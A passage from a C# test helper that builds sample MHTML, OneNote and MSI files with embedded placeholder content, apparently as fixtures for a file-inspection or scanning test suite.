        $"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=\"b\"\n\n--b\nContent-Location: file:///C:/a.htm\nContent-Type: text/html\n\n<html><body>x</body></html>\n--b\nContent-Location: file:///C:/{name}\nContent-Transfer-Encoding: base64\nContent-Type: application/octet-stream\n\n{base64}\n--b--\n");

    private static SampleFile Section(params (string Name, byte[] Content)[] files) => new("a.one", OneNoteBuilder.Section(files));

    internal static SampleFile Msi(string action)
    {
        using var folder = new TemporaryFolder();
        folder.Write("inner.bin", [1, 2, 3, 4]);
        return new("a.msi", MsiBuilder.WithWixl(folder.Path, action));
    }
}
